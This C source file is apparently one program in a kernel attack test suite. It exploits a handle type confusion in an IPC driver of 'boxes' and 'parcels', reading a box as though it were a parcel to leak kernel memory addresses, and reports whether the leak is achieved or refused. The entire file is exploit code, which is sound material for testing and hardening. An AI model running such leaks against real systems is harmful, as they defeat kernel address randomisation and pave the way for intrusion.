// SPDX-License-Identifier: GPL-2.0-only
/*
 * A handle to a box is used as one to a parcel. What is the queue of a box is, in a parcel, the
 * address of its bytes, and the mode is their number: reading gives the kernel's own structures.
 */
#include <string.h>
#include <unistd.h>

#include "attack.h"

#define MODE	0666
#define WORDS	(MODE / sizeof(__u64))

/* addresses of the kernel are above */
#ifdef __aarch64__
#define KERNEL	0xffff000000000000ull
#else
#define KERNEL	0xffff800000000000ull
#endif

int main(int argc, char **argv)
{
	char mine[16] = "mine", bytes[MODE], name[PARCEL_NAME_SIZE];
	__u64 words[WORDS], address = 0;
	int file, i, result, n = 0;
	__u32 box, parcel;

	attack_begin(argc, argv);
	file = device_open();
	snprintf(name, sizeof(name), "confused-%d", getpid());
	box = named_box(file, name, MODE);
	must("send", parcel_send(file, box, mine, sizeof(mine), NULL, 0));
	parcel = parcel_take(file, box);
	must("read a parcel", parcel_read(file, parcel, 0, bytes, sizeof(mine)));
	must("send", parcel_send(file, box, mine, sizeof(mine), NULL, 0));

	result = parcel_read(file, box, 0, bytes, MODE);
	if (result < 0)
		refused("%s", error_name(result));
	memcpy(words, bytes, sizeof(words));
	for (i = 0; i < (int)WORDS; i++) {
		if (words[i] < KERNEL || words[i] > -4096ull)
			continue;
		n++;
		address = words[i];
	}
	if (!n)
		could_not("read %d bytes of a box, and no address is among them", result);
	achieved("leaks", "%d addresses of kernel memory, such as %#llx", n,
		 (unsigned long long)address);
}
